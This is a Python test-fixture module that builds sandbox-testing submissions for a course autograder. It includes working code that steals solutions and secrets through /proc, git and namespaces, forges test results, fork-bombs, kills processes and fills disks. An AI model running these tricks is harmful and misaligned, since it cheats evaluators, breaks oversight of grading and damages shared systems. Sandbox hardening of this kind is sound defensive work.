"""The hostile corpus: tricks, each beside an honest twin, that must earn exactly the twin's score.

Every trick is a lec01 submission built from the same honest twin: the reference with three
functions (l2_distance, angle, projection) left as stubs, worth ``TWIN_SCORE`` of 38 points with the
hidden tests. A trick keeps the honest functions and adds code that tries to earn the stubs'
points without computing them (reading the solutions, a classmate's folder, the gradebook, the
grader's memory, a loopback server...), or to harm the run (killing classmates, stalling the grader,
filling disks, leaving daemons and files behind, overwriting a classmate's work).

The stubs answer through ``_breach()``: each trick's own test of whether its attack got through.
When it did, the stub returns the right answer (an oracle copied from the reference), so any hole
in the sandbox shows up as points above the twin's; when it did not, the stub does what the trick
does instead (``_misbehave``: raise, loop, crash, lie, fork, hog...). Harm shows up in the honest
classmates graded in the same batch, in processes and files left behind, all of which the tests
look for. Used by tests/test_hostile_corpus.py and benchmarks/hostile_corpus.py (the full table).
"""

from __future__ import annotations

import json
import re
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = "lec01_vectors"
REFERENCE = (REPO / "solutions" / f"{ASSIGNMENT}.py").read_text()
STUBBED = ("l2_distance", "angle", "projection")
TWIN_SCORE = 16  # of 38: hadamard, the norms and l1_distance, public and hidden
FULL_SCORE = 38

# The honest twin's stubs: a trick replaces _breach and _misbehave, or adds code at the end.
STUBS = """

def _breach():
    return False


def _misbehave(name, *args):
    raise NotImplementedError(name)


def l2_distance(x, y):
    if _breach():
        return _oracle_l2_distance(x, y)
    return _misbehave("l2_distance", x, y)


def angle(x, y):
    if _breach():
        return _oracle_angle(x, y)
    return _misbehave("angle", x, y)


def projection(x, y):
    if _breach():
        return _oracle_projection(x, y)
    return _misbehave("projection", x, y)
"""

# What a stolen file must look like to count as the answers: the reference's angle.
IS_ANSWER = """
def _is_answer(text):
    return "def angle(" in text and "arccos" in text and "_breach" not in text
"""


def twin_source() -> str:
    """The honest twin: the reference, with the stubbed functions renamed as oracles."""
    source = REFERENCE
    for name in STUBBED:
        source, n = re.subn(rf"^def {name}\(", f"def _oracle_{name}(", source, flags=re.M)
        assert n == 1, name
    return source + STUBS


@dataclass(frozen=True)
class Trick:
    name: str
    what: str  # the attack, for the table
    stopped_by: str  # the protection that stops it
    code: str  # appended to the twin (placeholders: see Placeholders.fill)
    files: dict[str, str] = field(default_factory=dict)  # extra files in the folder ("->x": link)
    notebook: bool = False  # handed in as lec01_vectors.ipynb: the twin, then the trick's cells
    slow: bool = False  # takes seconds by design (loops, sleeps, crashes with slow imports)


@dataclass(frozen=True)
class Placeholders:
    """What a trick is told about the machine (as an attacker who read the course's CI would)."""

    repo: Path
    klass: Path  # the class folder (the classmates)
    marker: str  # in the command lines and file names of what tricks leave behind
    port: int  # a loopback server that hands out "BREACH" to whoever connects
    book: Path  # the output folder of an earlier grading run (gradebook, feedback)
    config: Path  # the instructor's configuration folder (the secret)

    def fill(self, code: str) -> str:
        for key, value in (("REPO", self.repo), ("CLASS", self.klass), ("MARKER", self.marker),
                           ("PORT", self.port), ("BOOK", self.book), ("CONFIG", self.config)):  # fmt: skip
            code = code.replace(f"@{key}@", str(value))
        return code


DAEMON = """
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", {body!r}, "@MARKER@"], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr={stderr})
"""


def daemon(body: str, *, hold_stderr: bool = False) -> str:
    return DAEMON.format(body=body, stderr="None" if hold_stderr else "_sp.DEVNULL")


TRICKS: list[Trick] = [
    # -- reading what it should not ------------------------------------------------------------
    Trick(
        "import_solutions",
        "import solutions.lec01_vectors from the checkout",
        "hidden imports; minimal root",
        """
import sys, importlib.util
def _breach():
    sys.path[:0] = ["@REPO@"]
    try:
        import solutions.lec01_vectors as ref
        return hasattr(ref, "angle")
    except Exception:
        pass
    try:
        spec = importlib.util.spec_from_file_location("ref", "@REPO@/solutions/lec01_vectors.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return hasattr(module, "angle")
    except Exception:
        return False
""",
    ),
    Trick(
        "read_solutions_by_path",
        "open the reference by its absolute path",
        "minimal root (hidden paths where there is none)",
        IS_ANSWER
        + """
def _breach():
    try:
        return _is_answer(open("@REPO@/solutions/lec01_vectors.py").read())
    except OSError:
        return False
""",
    ),
    Trick(
        "search_filesystem",
        "walk / for any lec01_vectors.py that holds the answers",
        "minimal root",
        IS_ANSWER
        + """
import os, time
_found = []
def _breach():
    if not _found:
        end = time.time() + 3
        _found.append(False)
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if top != "/" or d not in ("proc", "sys", "dev")]
            if time.time() > end:
                break
            for f in files:
                if f in ("lec01_vectors.py", "lec01_vectors.ipynb"):
                    try:
                        if _is_answer(open(os.path.join(top, f), errors="replace").read()):
                            _found[0] = True
                    except OSError:
                        pass
    return _found[0]
""",
    ),
    Trick(
        "git_history",
        "git show HEAD:solutions/lec01_vectors.py in the checkout",
        "minimal root (no checkout, no .git)",
        IS_ANSWER
        + """
import subprocess
def _breach():
    for where in ("@REPO@", "@REPO@/.git"):
        try:
            out = subprocess.run(["git", "-C", where, "show", "HEAD:solutions/lec01_vectors.py"],
                                 capture_output=True, text=True, timeout=5).stdout
        except (OSError, subprocess.SubprocessError):
            continue
        if _is_answer(out):
            return True
    return False
""",
    ),
    Trick(
        "example_class",
        "read the reference shipped as the example student ada",
        "minimal root",
        IS_ANSWER
        + """
def _breach():
    try:
        return _is_answer(open("@REPO@/examples/class/ada/lec01_vectors.py").read())
    except OSError:
        return False
""",
    ),
    Trick(
        "classmates_folders",
        "read the classmates' submissions in the class folder",
        "minimal root (only its own file is there)",
        IS_ANSWER
        + """
import glob
def _breach():
    for path in glob.glob("@CLASS@/*/lec01_vectors.py"):
        try:
            if _is_answer(open(path).read()):
                return True
        except OSError:
            pass
    return False
""",
    ),
    Trick(
        "proc_cmdline",
        "find classmates' and the course's paths in /proc/*/cmdline, read them",
        "own pid namespace and /proc",
        IS_ANSWER
        + """
import os, re
def _breach():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for word in words:
            for path in (word, os.path.join(word, "lec01_vectors.py"),
                         os.path.join(word, "solutions", "lec01_vectors.py")):
                try:
                    if os.path.isfile(path) and _is_answer(open(path).read()):
                        return True
                except OSError:
                    pass
    return False
""",
    ),
    Trick(
        "proc_cwd_and_root",
        "read the solutions through /proc/<pid>/cwd and /proc/<pid>/root",
        "own pid namespace and /proc",
        IS_ANSWER
        + """
import os
def _breach():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for path in (f"/proc/{pid}/cwd/solutions/lec01_vectors.py",
                     f"/proc/{pid}/root@REPO@/solutions/lec01_vectors.py"):
            try:
                if _is_answer(open(path).read()):
                    return True
            except OSError:
                pass
    return False
""",
    ),
    Trick(
        "earlier_gradebook",
        "read an earlier run's gradebook and feedback (expected values)",
        "minimal root; files 0600 in a 0700 folder",
        """
import glob, os
def _breach():
    for path in glob.glob("@BOOK@/**", recursive=True):
        if os.path.isfile(path):
            try:
                open(path, "rb").read(1)
                return True
            except OSError:
                pass
    return False
""",
    ),
    Trick(
        "instructor_secret",
        "read the instructor's secret (the hidden tests' seeds)",
        "minimal root; the environment is not passed",
        """
import os
def _breach():
    if any("SECRET" in k or "AIMATH" in k for k in os.environ):
        return True
    for path in ("@CONFIG@/secret", os.path.expanduser("~/.config/aimath/secret")):
        try:
            open(path).read()
            return True
        except OSError:
            pass
    return False
""",
    ),
    Trick(
        "inherited_descriptors",
        "look for the grader's files among inherited descriptors",
        "close_fds: only the protocol's pipes",
        """
import os
def _breach():
    for fd in range(3, 256):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if any(w in target for w in ("solutions", "graders", ".sqlite", "secret", "hidden")):
            return True
    return False
""",
    ),
    Trick(
        "loopback_network",
        "fetch the answers from a server on 127.0.0.1",
        "network namespace (its own, empty loopback)",
        """
import socket
def _breach():
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5) as s:
            return s.recv(16) == b"BREACH"
    except OSError:
        return False
""",
    ),
    Trick(
        "grader_memory",
        "find the grader's process and read its memory",
        "own pid namespace (the grader has no pid there)",
        """
import os
def _breach():
    for pid in range(1, 4096):
        if pid == os.getpid():
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"pytest" in cmd or b"autograder" in cmd or b"aimath" in cmd:
            try:
                open(f"/proc/{pid}/mem", "rb").read(1)
            except OSError:
                pass
            return True
    return False
""",
    ),
    Trick(
        "nested_user_namespace",
        "unshare a user and mount namespace, unmount what hides things",
        "pivot_root (nothing of the host left); locked mounts; no capabilities",
        IS_ANSWER
        + """
import ctypes, os
def _breach():
    pid = os.fork()
    if pid == 0:
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            uid, gid = os.getuid(), os.getgid()
            if libc.unshare(0x10000000 | 0x00020000) == 0:
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"),
                                   ("gid_map", f"0 {gid} 1")):
                    try:
                        open(f"/proc/self/{name}", "w").write(text)
                    except OSError:
                        pass
                for path in (b"@REPO@/solutions", b"@REPO@", b"/tmp", b"/.old", b"/"):
                    libc.umount2(path, 2)
            ok = _is_answer(open("@REPO@/solutions/lec01_vectors.py").read())
        except BaseException:
            ok = False
        os._exit(0 if ok else 1)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status) == 0
""",
    ),
    # -- lying about the result -------------------------------------------------------------------
    Trick(
        "monkeypatch_numpy",
        "make numpy's comparisons always true, return 0.0",
        "scoring runs in another process",
        """
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
def _misbehave(name, *args):
    return 0.0
""",
    ),
    Trick(
        "lying_object",
        "return an object equal to everything",
        "the wire format: plain data only",
        """
class _Liar(float):
    def __eq__(self, other):
        return True
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __abs__(self):
        return 0.0
def _misbehave(name, *args):
    return _Liar(0.0)
""",
    ),
    Trick(
        "ndarray_subclass",
        "return an ndarray subclass whose comparisons are all true",
        "the wire format: no subclasses",
        """
import numpy as np
class _Always(np.ndarray):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return np.zeros(self.shape).view(_Always)
def _misbehave(name, *args):
    return np.zeros(len(args[0])).view(_Always) if name == "projection" else np.float64(0)
""",
    ),
    Trick(
        "frames_and_gc",
        "look for the expected value in the callers' frames and in gc",
        "expected values never enter the worker",
        """
import gc, sys
def _misbehave(name, *args):
    frame = sys._getframe()
    while frame is not None:
        for key in ("expected", "want", "ref", "answer"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj:
            return obj["expected"]
    raise NotImplementedError(name)
""",
    ),
    Trick(
        "forged_reply",
        "patch the worker's encoder to add score and status fields",
        "the grader decodes and shape-checks every reply",
        """
import sys
_wire = sys.modules.get("_aimath_wire")
if _wire is not None:
    _encode = _wire.encode
    def _forged(message, *a, **k):
        if isinstance(message, dict):  # every reply claims to pass; the stubs' claim 0.0 is right
            message = dict(message, status="passed", score=999, passed=True)
            error = message.get("error")
            if isinstance(error, dict) and error.get("type") == "NotImplementedError":
                message.update(ok=True, value=0.0)  # only the stubs: the rest answers honestly
        return _encode(message, *a, **k)
    _wire.encode = _forged
""",
    ),
    Trick(
        "fake_output",
        "print a fake 'all tests passed' summary",
        "printed output is shown as the student's only",
        """
def _misbehave(name, *args):
    print("All tests passed!\\nTotal  38/38  100%\\n{\\"score\\": 38, \\"tests\\": []}")
    raise NotImplementedError(name)
""",
    ),
    Trick(
        "fake_results_files",
        "write results.json and a gradebook with full marks",
        "the grader writes its own; the submission's folder is read-only",
        """
import json, os
for _where in (".", os.path.dirname(os.path.abspath(__file__)), "@BOOK@", "/tmp"):
    for _name in ("results.json", "grades.csv", "gradebook.sqlite"):
        try:
            with open(os.path.join(_where, _name), "w") as _f:
                _f.write(json.dumps({"score": 38, "max_score": 38, "tests": []}))
        except OSError:
            pass
""",
    ),
    Trick(
        "huge_values",
        "return a 100 000-digit integer and a 10 000-deep list",
        "wire caps (digits, depth): a clear failure",
        """
def _misbehave(name, *args):
    if name == "angle":
        return 10 ** 100_000
    value = 0.0
    for _ in range(10_000):
        value = [value]
    return value
""",
    ),
    Trick(
        "module_getattr",
        "delete the stubs, answer any name through module __getattr__",
        "only functions defined in the file are called",
        """
del l2_distance, angle, projection
def __getattr__(name):
    return lambda *args, **kwargs: 0.0
""",
    ),
    # -- escaping the call ----------------------------------------------------------------------
    Trick(
        "sys_exit",
        "sys.exit(0) from the stubs",
        "the call fails, the worker lives on",
        """
import sys
def _misbehave(name, *args):
    sys.exit(0)
""",
    ),
    Trick(
        "os_exit",
        "os._exit(0) from the stubs",
        "a fresh worker; at most two crashes per function",
        """
import os
def _misbehave(name, *args):
    os._exit(0)
""",
    ),
    Trick(
        "kill_the_grader",
        "SIGKILL its parent, its process group and every pid it can",
        "own pid namespace (init ignores it; the grader is out of reach)",
        """
import os, signal, time
def _misbehave(name, *args):
    for target in (os.getppid(), 0, -1):
        try:
            (os.killpg if target == 0 else os.kill)(target, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.3)  # for the signals to land before it answers
    raise NotImplementedError(name)
""",
    ),
    Trick(
        "kill_classmates",
        "a setsid daemon that SIGKILLs every process for 20 s",
        "own pid namespace",
        daemon(
            "import os, signal, time\nend = time.time() + 20\nwhile time.time() < end:\n"
            "    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n"
        ),
    ),
    Trick(
        "stderr_daemon",
        "a setsid daemon holding the grader's stderr pipe for 60 s",
        "reads with deadlines; the namespace dies with its init",
        daemon(
            "import sys, time\nfor _ in range(300):\n    sys.stderr.write('.')\n"
            "    sys.stderr.flush()\n    time.sleep(0.2)\n",
            hold_stderr=True,
        ),
    ),
    Trick(
        "detached_writer",
        "a double-forked daemon, fds closed, writing files after grading",
        "own pid namespace (killed with the worker); private /tmp",
        daemon(
            "import os, time\nos.closerange(0, 256)\nif os.fork():\n    os._exit(0)\n"
            "time.sleep(2)\nfor d in ('/tmp', '/var/tmp', '/dev/shm', '@CLASS@'):\n"
            "    try:\n        open(d + '/left-@MARKER@', 'w').write('x')\n"
            "    except OSError:\n        pass\n"
        ),
    ),
    Trick(
        "overwrite_classmate",
        "overwrite a classmate's file and the grader's checks.py",
        "minimal root; read-only mounts",
        """
import glob
for _path in glob.glob("@CLASS@/*/lec01_vectors.py") + ["@REPO@/autograder/checks.py"]:
    if "overwrite_classmate" not in _path:
        try:
            open(_path, "a").write("\\nraise SystemExit('overwritten by a classmate')\\n")
        except OSError:
            pass
""",
    ),
    Trick(
        "shared_tmp_collusion",
        "read answers a colluding classmate left in /tmp and /dev/shm",
        "private /tmp, /var/tmp and /dev/shm per worker",
        IS_ANSWER
        + """
def _breach():
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            if _is_answer(open(f"{d}/collude-@MARKER@.py").read()):
                return True
        except OSError:
            pass
    return False
""",
    ),
    # -- exhausting resources -------------------------------------------------------------------
    Trick(
        "fork_bomb",
        "fork 500 sleeping children on every call",
        "the cgroup's pids.max as root, RLIMIT_NPROC in a user namespace",
        """
import os, time
def _misbehave(name, *args):
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    raise NotImplementedError(name)
""",
    ),
    Trick(
        "memory_hog_children",
        "four children of 1.2 GiB each (4.8 GiB over a 4 GiB limit)",
        "the cgroup's memory limit (root); each process's own limit otherwise",
        """
import subprocess, sys, time
_hogs = []
def _misbehave(name, *args):
    if not _hogs:  # once per worker: they hold it while the worker goes on answering
        code = "n = 1200 * 1024 * 1024; x = bytearray(n); x[::4096] = bytes(n // 4096)"
        code += "; import time; time.sleep(3)"
        _hogs.extend(subprocess.Popen([sys.executable, "-c", code, "@MARKER@"]) for _ in range(4))
        time.sleep(0.8)  # within the call's time limit: let them grow
    raise NotImplementedError(name)
""",
    ),
    Trick(
        "fill_tmp",
        "write 1.4 GiB to /tmp, /var/tmp and /dev/shm at import",
        "private, size-limited tmpfs, gone with the worker",
        """
for _d in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(f"{_d}/fill-@MARKER@", "wb") as _f:
            for _ in range(480):
                _f.write(b"x" * (1024 * 1024))
    except OSError:
        pass
""",
    ),
    Trick(
        "fill_scratch",
        "write 1 GiB into its scratch folder (the working directory)",
        "the file size limit and the scratch folder's tmpfs",
        """
try:
    with open("scratch-fill", "wb") as _f:
        for _ in range(1024):
            _f.write(b"x" * (1024 * 1024))
except OSError:
    pass
""",
    ),
    Trick(
        "sleep_every_call",
        "sleep 0.9 s in every stub call",
        "the test and submission budgets",
        """
import time
def _misbehave(name, *args):
    time.sleep(0.9)
    raise NotImplementedError(name)
""",
        slow=True,
    ),
    Trick(
        "endless_loop",
        "loop forever in every stub call",
        "the call's time limit",
        """
def _misbehave(name, *args):
    while True:
        pass
""",
        slow=True,
    ),
    Trick(
        "crash_with_slow_import",
        "a 2 s import, then os._exit(1) on every stub call",
        "at most two crashes per function; the submission budget",
        """
import os, time
time.sleep(2)
def _misbehave(name, *args):
    os._exit(1)
""",
        slow=True,
    ),
    # -- the submission's folder ------------------------------------------------------------------
    Trick(
        "symlinked_helper",
        "a helper.py in the folder that links to the solutions",
        "minimal root (the link points nowhere); zips refuse links",
        """
def _breach():
    try:
        import helper
        return hasattr(helper, "angle")
    except Exception:
        return False
""",
        files={"helper.py": "->@REPO@/solutions/lec01_vectors.py"},
    ),
    Trick(
        "startup_files",
        "conftest.py, sitecustomize.py and a .pth file in the folder",
        "python -I; the folder is not on pytest's path",
        """
import os
def _breach():
    return os.environ.get("AIMATH_PWNED") == "1"
""",
        files={
            "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n    outcome = yield\n"
            "    outcome.get_result().outcome = 'passed'\n",
            "sitecustomize.py": "import os\nos.environ['AIMATH_PWNED'] = '1'\n",
            "usercustomize.py": "import os\nos.environ['AIMATH_PWNED'] = '1'\n",
            "pwn.pth": "import os; os.environ['AIMATH_PWNED'] = '1'\n",
        },
    ),
    Trick(
        "notebook_shell_escape",
        "a notebook whose cells copy the solutions with ! and %",
        "magics and shell lines are not run; minimal root",
        IS_ANSWER
        + """
!cp @REPO@/solutions/lec01_vectors.py /tmp/stolen-@MARKER@.py
%cp @REPO@/solutions/lec01_vectors.py /tmp/stolen-@MARKER@.py
stolen = !cat @REPO@/solutions/lec01_vectors.py
def _breach():
    try:
        return _is_answer(open("/tmp/stolen-@MARKER@.py").read())
    except OSError:
        return False
""",
        notebook=True,
    ),
]

# Tricks that would harm the machine if they ran with no sandbox at all (kill every process of
# their user, fill /tmp, leave daemons): the benchmark's unprotected column leaves them out.
HARMFUL = frozenset({
    "kill_the_grader", "kill_classmates", "stderr_daemon", "detached_writer",
    "overwrite_classmate", "fork_bomb", "memory_hog_children", "fill_tmp", "fill_scratch",
    "fake_results_files",
})  # fmt: skip
assert HARMFUL <= {t.name for t in TRICKS}

# Honest students graded in the same batch: their scores must not move.
COLLUDER = """
import os as _os
for _d in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        open(f"{_d}/collude-@MARKER@.py", "w").write(open(__file__).read())
    except OSError:
        pass
"""
HONEST = {"honest_first": "", "honest_colluder": COLLUDER, "honest_last": ""}


def notebook_text(source: str, trick_cells: str) -> str:
    """An nbformat 4 notebook: the twin in one cell, then the trick, one line per cell."""

    def cell(text: str) -> dict:
        return {"cell_type": "code", "execution_count": None, "id": f"cell-{len(cells)}",
                "metadata": {}, "outputs": [], "source": text}  # fmt: skip

    lines = trick_cells.strip().split("\n")
    cells: list[dict] = []
    cells.append(cell(source))
    block: list[str] = []
    for line in lines + [""]:
        if line.startswith(("!", "%", "stolen = !")) or line == "":
            if block:
                cells.append(cell("\n".join(block)))
                block = []
            if line:
                cells.append(cell(line))
        else:
            block.append(line)
    notebook = {"cells": cells, "metadata": {"kernelspec": {"name": "python3",
                "display_name": "Python 3", "language": "python"}}, "nbformat": 4,
                "nbformat_minor": 5}  # fmt: skip
    return json.dumps(notebook, indent=1)


def write_submission(
    folder: Path, trick: Trick | None, fill: Placeholders, *, honest: str | None = None
) -> Path:
    """Write one student's folder: the twin with ``trick`` (None: the twin itself), or, with
    ``honest``, the whole reference followed by that code."""
    folder.mkdir(parents=True, exist_ok=True)
    source = twin_source() if honest is None else REFERENCE + fill.fill(honest)
    if trick is not None and trick.notebook:
        (folder / f"{ASSIGNMENT}.ipynb").write_text(notebook_text(source, fill.fill(trick.code)))
    elif trick is not None:
        (folder / f"{ASSIGNMENT}.py").write_text(source + "\n" + fill.fill(trick.code))
    else:
        (folder / f"{ASSIGNMENT}.py").write_text(source)
    for name, content in (trick.files if trick else {}).items():
        if content.startswith("->"):
            (folder / name).symlink_to(fill.fill(content[2:]))
        else:
            (folder / name).write_text(fill.fill(content))
    return folder


def build_class(klass: Path, fill: Placeholders, tricks: list[Trick] = TRICKS) -> dict[str, int]:
    """Write the twin, the honest students and every trick into ``klass``; return the expected
    score of each student."""
    expected = {"twin": TWIN_SCORE}
    write_submission(klass / "twin", None, fill)
    for student, code in HONEST.items():
        write_submission(klass / student, None, fill, honest=code)
        expected[student] = FULL_SCORE
    for trick in tricks:
        write_submission(klass / trick.name, trick, fill)
        expected[trick.name] = TWIN_SCORE
    return expected


class BreachServer:
    """A loopback TCP server that answers "BREACH" to whoever connects (for loopback_network)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(b"BREACH")

    def close(self) -> None:
        self.sock.close()

    def __enter__(self) -> BreachServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def leftovers(fill: Placeholders) -> list[str]:
    """Files a trick left outside its scratch folder (the class folder, /tmp, /var/tmp, /dev/shm)."""
    found = []
    for folder in (Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), fill.klass):
        try:
            found += [str(p) for p in folder.iterdir() if fill.marker in p.name]
        except OSError:
            pass
    return found
